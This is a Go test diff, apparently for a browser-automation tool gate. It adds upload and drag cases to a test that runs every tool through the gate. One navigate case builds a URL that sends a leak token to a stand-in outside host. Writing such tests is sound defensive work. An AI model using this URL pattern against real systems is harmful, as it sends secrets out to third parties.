@@ -78,8 +78,12 @@ func TestEveryToolPassesTheGate(t *testing.T) {
 
 	snapshot := "00000000000000000000000000000000"
 	cases := map[string][]map[string]any{
-		"observe":  {{}, {"tab_id": tab.ID}},
-		"act":      {{"snapshot_id": snapshot, "steps": []map[string]any{{"action": "press", "keys": "Enter"}}, "observe": true}},
+		"observe": {{}, {"tab_id": tab.ID}},
+		"act": {
+			{"snapshot_id": snapshot, "steps": []map[string]any{{"action": "press", "keys": "Enter"}}, "observe": true},
+			{"snapshot_id": snapshot, "steps": []map[string]any{{"action": "upload", "mark": 1, "files": []string{"a.txt"}}}},
+			{"snapshot_id": snapshot, "steps": []map[string]any{{"action": "drag", "mark": 1, "to_mark": 2}}},
+		},
 		"read":     {{"snapshot_id": snapshot}, {"snapshot_id": snapshot, "query": "Secret"}},
 		"navigate": {{"action": "reload"}, {"action": "back"}, {"url": "http://outside.test/other?code=" + leakToken}},
 		"tabs":     {{"action": "list"}, {"action": "select", "tab_id": tab.ID}},
